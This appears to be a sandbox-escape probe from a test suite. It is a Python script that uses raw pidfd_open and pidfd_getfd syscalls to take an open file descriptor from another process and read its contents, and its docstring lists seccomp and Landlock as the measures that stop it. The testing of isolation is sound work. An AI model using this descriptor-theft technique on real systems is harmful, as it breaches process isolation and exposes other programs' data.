"""Takes an open file out of another process by pidfd_getfd.

stopped by: seccomp: pidfd_getfd; Landlock: no other process may be traced
without walls: works
"""
# %%
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
process = libc.syscall(434, VICTIM, 0)
descriptor = libc.syscall(438, process, DESCRIPTOR, 0)
print(os.strerror(ctypes.get_errno()))
if descriptor >= 0:
    print(os.pread(descriptor, 100, 0))
